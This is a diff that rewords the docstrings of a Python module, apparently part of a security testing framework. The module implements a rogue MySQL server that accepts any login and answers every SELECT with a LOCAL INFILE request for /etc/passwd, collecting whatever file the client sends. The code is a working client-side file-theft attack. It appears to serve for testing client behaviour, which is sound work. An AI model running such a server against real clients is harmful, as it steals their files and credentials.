@@ -1,7 +1,7 @@
-"""A MySQL server that, once it has turned, answers any SELECT with a request for a file of the client's.
+"""A MySQL server that, once hostile, responds to any SELECT by requesting a client's file.
 
 The client/server protocol lets a server answer COM_QUERY with 0xFB and a file name; a client that allows LOCAL INFILE
-sends the file, whatever the statement was.
+sends the file, for any statement.
 """
 
 import struct
@@ -12,7 +12,7 @@ from backwatch.attack.protocols.server import HostileServer, Session
 VERSION = b"8.0.36-demo"
 WANTED = b"/etc/passwd"
 SALT = b"abcdefghijklmnopqrst"
-"""What logins prove the password with; the same for all, for nobody listens here who would repeat an answer."""
+"""Salt of all logins. It is constant, since on loopback no attacker can replay a response."""
 _LONG_PASSWORD, _WITH_DB, _PROTOCOL_41, _SSL, _SECURE, _PLUGIN_AUTH = 1, 8, 0x200, 0x800, 0x8000, 0x80000
 _CAPABILITIES = _LONG_PASSWORD | _WITH_DB | _PROTOCOL_41 | _SSL | _SECURE | _PLUGIN_AUTH | 0x80
 _QUIT, _QUERY, _PING = 1, 3, 14
@@ -21,7 +21,7 @@ _UTF8MB4 = 45
 
 
 class MySQL(HostileServer):
-    """Orders are read from it; then it wants a file."""
+    """Returns orders; once hostile, requests a file."""
 
     name = "mysql"
     attack = "asks for a file of the client's in answer to a SELECT"
@@ -30,17 +30,17 @@ class MySQL(HostileServer):
     rule = "local-file-request"
 
     rows = 12
-    """Rows that a SELECT answers with."""
+    """Rows of a SELECT's result."""
     version = VERSION
-    """What it says that it is."""
+    """Version that the server announces."""
     wanted = WANTED
-    """The file that it asks for."""
+    """File that the server requests."""
 
     plugin = b"mysql_native_password"
-    """How it wants clients to log in."""
+    """Authentication plugin for logins."""
 
     def serve(self, session: Session) -> None:
-        """Handshake, TLS, login, then statements."""
+        """Serve the handshake, TLS, the login, then statements."""
         wire = Packets(session)
         capabilities = _CAPABILITIES if self.offers_tls() else _CAPABILITIES & ~_SSL
         wire.send(
@@ -66,22 +66,22 @@ class MySQL(HostileServer):
                 self._answer(wire, command[1:])
 
     def offers_tls(self) -> bool:
-        """Whether it agrees to TLS now."""
+        """Return whether the server agrees to TLS now."""
         return True
 
     def log_in(self, wire: "Packets", proof: bytes) -> None:
-        """Lets anybody in.
+        """Accept any login.
 
         Args:
-            wire: For more questions.
-            proof: What the client answered to ``SALT`` by ``plugin``.
+            wire: Channel for more questions.
+            proof: The client's response to ``SALT`` by ``plugin``.
         """
 
     def answers(self, wire: "Packets", statement: bytes) -> bool:
-        """Answers a statement in its own way; else, and in that case it says so, it is answered the ordinary way."""
+        """Respond to a statement in a special way. Return ``False`` for the default response."""
         if self.hostile and statement.lstrip()[:6].upper() == b"SELECT":
             wire.send(b"\xfb" + self.wanted)
-            while given := wire.receive():  # up to an empty packet
+            while given := wire.receive():  # until an empty packet
                 self.taken(given)
             wire.send(OK)
             return True
@@ -99,29 +99,29 @@ _EOF = b"\xfe" + struct.pack("<HH", 0, 2)
 
 
 class Packets:
-    """Length, sequence number, payload."""
+    """MySQL packets: length, sequence number, payload."""
 
     def __init__(self, session: Session) -> None:
         self._session = session
         self._number = 0
 
     def restart(self) -> None:
-        """Numbers anew, as a command begins."""
+        """Reset the sequence number, as a command begins."""
         self._number = 0
 
     def receive(self) -> bytes:
-        """The next payload."""
+        """Return the next payload."""
         head = self._session.read(4)
         self._number = head[3] + 1
         return self._session.read(int.from_bytes(head[:3], "little"))
 
     def send(self, payload: bytes) -> None:
-        """One packet."""
+        """Send one packet."""
         self._session.send(len(payload).to_bytes(3, "little") + bytes([self._number & 0xFF]) + payload)
         self._number += 1
 
     def rows(self, columns: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
-        """A text result set."""
+        """Send a text result set."""
         self.send(bytes([len(columns)]))
         for column in columns:
             name = _text(column)
